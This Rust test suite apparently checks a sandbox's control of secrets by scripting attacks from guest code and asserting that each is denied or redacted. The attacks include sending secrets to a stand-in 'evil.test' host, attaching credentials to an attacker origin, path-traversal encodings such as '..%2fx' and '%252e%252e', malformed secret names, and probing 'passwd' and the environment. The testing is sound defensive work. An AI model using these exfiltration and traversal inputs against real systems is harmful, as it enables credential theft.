//! Secrets that are not granted, on rungs that are not granted, to places that are not granted.

use serde_json::{Value, json};

use crate::attacks;
use crate::world::{secret, stopped};

attacks! {
    ungranted_secrets: "computes with, and attaches, secrets that are bound but not granted to it" => "denied", |world| {
        let url = format!("{}/v1/plain", world.trusted.origin());
        let told = world.told(json!([
            { "do": "hmac", "name": "hidden", "message": "m" },
            { "do": "http", "url": url, "attach": "hidden" },
        ])).await;
        assert!(told.iter().all(|result| result["err"].as_str().is_some_and(|why| why.to_lowercase().contains("denied"))), "{told:?}");
        assert!(!world.trusted.was_reached());
    }
    other_rungs: "uses each granted secret in the way that another one is granted for" => "denied: each rung is granted by itself", |world| {
        let url = format!("{}/v1/plain", world.trusted.origin());
        let told = world.told(json!([
            { "do": "hmac", "name": "api", "message": "m" },
            { "do": "hmac", "name": "attached", "message": "m" },
            { "do": "http", "url": url, "attach": "api" },
            { "do": "http", "url": url, "attach": "signing" },
        ])).await;
        assert!(told.iter().all(|result| result["err"].as_str().is_some_and(|why| why.to_lowercase().contains("denied"))), "{told:?}");
    }
    signatures_and_tokens: "has bytes of its choice signed and tokens made with a key, and has them echoed" => "gets signatures and tokens and nothing of the key; what the binding does not list is denied", |world| {
        let relay = json!({ "do": "relay", "from": 1, "pick": "/ok", "url": format!("{}/v1/plain", world.trusted.origin()), "headers": [["x-token", "SEEN"]], "body": "SEEN" });
        let told = world.told(json!([
            { "do": "sign", "name": "key", "message": "m" },
            { "do": "jwt", "name": "key", "claims": r#"{"sub":"me","alg":"none"}"# },
            relay,
            { "do": "hmac", "name": "key", "message": "m" },
            { "do": "sign", "name": "signing", "message": "m" },
            { "do": "jwt", "name": "signing", "claims": "{}" },
            { "do": "sign", "name": "api", "message": "m" },
            { "do": "jwt", "name": "hidden", "claims": "{}" },
        ])).await;
        assert_eq!(told[0]["ok"].as_str().map(str::len), Some(128), "{told:?}");
        let token = told[1]["ok"].as_str().unwrap();
        assert_eq!(token.split('.').count(), 3, "{told:?}");
        assert!(told[2]["ok"]["body"].as_str().unwrap().ends_with(token), "{told:?}");
        assert!(told[3..].iter().all(|result| result["err"].as_str().is_some_and(|why| why.contains("Denied"))), "{told:?}");
    }
    revealed_and_told: "has a secret shown that it may see, and tells it in refused requests, names of hosts, log and output" => "audited each time, and removed from all that is told; other secrets are not shown", |world| {
        let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
        let told = world.told_under(&policy, json!([
            { "do": "reveal", "name": "revealed" },
            { "do": "relay", "from": 0, "pick": "/ok", "url": "http://SEEN.evil.test/SEEN?q=SEEN" },
            { "do": "relay", "from": 0, "pick": "/ok", "url": "http://user:SEEN@only.test/" },
            { "do": "say", "parts": [secret("revealed")] },
            { "do": "reveal", "name": "api" },
            { "do": "reveal", "name": "key" },
            { "do": "reveal", "name": "hidden" },
            { "do": "reveal", "name": "nothing" },
        ])).await;
        assert_eq!(told[0]["ok"], "[secret revealed]", "{told:?}");
        assert!(told[1]["err"].as_str().unwrap().contains("http://[secret revealed].evil.test/[secret revealed]"), "{told:?}");
        assert!(told[4..].iter().all(|result| result["err"].as_str().is_some_and(|why| why.contains("denied"))), "{told:?}");
        let spied = world.spy.told();
        assert_eq!(spied.matches("SecretRevealed").count(), 1, "{spied}");
        assert_eq!(spied.matches("SecretRefused").count(), 4, "{spied}");
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
    }
    names_of_secrets: "tries many names, to learn which secrets there are" => "one answer for those that are bound to others and those that are not there", |world| {
        let told = world.told(json!([{ "do": "open", "names": ["hidden", "nothing", "api", "attached", "", "../hidden", "HIDDEN", "hidden\u{0}", "*"] }])).await;
        let answers: Vec<&str> = told[0]["ok"].as_array().unwrap().iter().map(|answer| answer.as_str().unwrap()).collect();
        assert!(answers.iter().all(|answer| *answer == answers[0]), "{answers:?}");
        assert!(answers[0].ends_with("Denied"), "{answers:?}");
    }
    timing_the_store: "opens names again and again, to tell by time whether a store has them" => "no store is asked during a run: all were read before", |world| {
        // The store forgets everything once the run has been prepared.
        let names: Vec<&str> = ["hidden", "nothing", "signing"].into_iter().cycle().take(300).collect();
        let told = world.told_without_store(json!([{ "do": "open", "names": names }, { "do": "hmac", "name": "signing", "message": "m" }])).await;
        assert!(told[1]["ok"].is_string(), "{told:?}");
        assert!(told[0]["ok"].as_array().unwrap().iter().enumerate().all(|(at, answer)| (answer == "open") == (at % 3 == 2)), "{told:?}");
    }
    names_as_messages: "puts long and odd texts into the names of secrets and settings" => "refused; what is told of them is short", |world| {
        let long = "n".repeat(100_000);
        let before = world.spy.told().len();
        world.told(json!([{ "do": "open", "names": [long, "a\nb", "\u{1b}[31m"] }, { "do": "config", "name": long }, { "do": "http", "url": "http://127.0.0.1/", "attach": long }])).await;
        let told = world.spy.told().len() - before;
        assert!(told < 20_000, "{told} bytes were told");
    }
    guessed_handles: "uses handles that it was never given" => "the run is stopped", |world| {
        for handle in [0, 1, 2, 7, 1000, u32::MAX] {
            let report = world.run(&world.wide(), json!([{ "do": "guess", "handle": handle }])).await;
            assert!(stopped(&report).contains("handle"), "{report:?}");
        }
    }
    attached_elsewhere: "attaches a granted credential to requests to its own server, and beside the bound path" => "denied: where it goes is the operator's word", |world| {
        let (trusted, evil) = (world.trusted.origin(), world.evil.origin());
        let urls = [format!("{evil}/v1/x"), format!("{trusted}/v2"), format!("{trusted}/v1x"), format!("{trusted}/"), format!("{trusted}/v1/..%2fx"), format!("{trusted}/v1/..;/x")];
        let script: Vec<Value> = urls.iter().map(|url| json!({ "do": "http", "url": url, "attach": "attached" })).collect();
        let told = world.told(script.into()).await;
        assert!(told.iter().all(|result| result["err"].as_str().is_some_and(|why| why.to_lowercase().contains("denied"))), "{told:?}");
        assert!(!world.evil.was_reached() && !world.trusted.was_reached());
    }
    injected_elsewhere: "sends requests that nearly are those that a credential is added to" => "sent without it", |world| {
        let (trusted, evil) = (world.trusted.origin(), world.evil.origin());
        world.dns.tell("alias.test", &[&["127.0.0.1"]]);
        let alias = format!("http://alias.test:{}", world.trusted.port());
        let urls = [format!("{evil}/v1/x"), format!("{alias}/v1/x"), format!("{trusted}/v1x"), format!("{trusted}/V1/x"), format!("{trusted}//v1/x"), format!("{trusted}/v1/..%2fx"), format!("{trusted}/v1/%252e%252e/x"), format!("{trusted}/x/v1")];
        let script: Vec<Value> = urls.iter().map(|url| json!({ "do": "http", "url": url })).collect();
        let told = world.told(script.into()).await;
        assert!(told.iter().all(|result| result["ok"]["status"] == 200), "{told:?}");
        let got = format!("{}{}", world.trusted.received(), world.evil.received());
        assert!(!got.contains("authorization"), "{got}");
    }
    settings_and_surroundings: "looks for secrets in settings, environment, arguments and files" => "its own settings and nothing else", |world| {
        let told = world.told(json!([{ "do": "around" }, { "do": "config", "name": "token" }, { "do": "config", "name": "region" }])).await;
        let around = &told[0]["ok"];
        assert_eq!((around["env"].to_string(), around["settings"].to_string()), ("[]".into(), "[\"region\"]".into()), "{around}");
        for place in ["passwd", "write", "here"] {
            assert!(around[place].is_string(), "{place}: {around}");
        }
        assert_eq!((&told[1]["ok"], &told[2]["ok"]), (&Value::Null, &json!("eu")));
    }
}
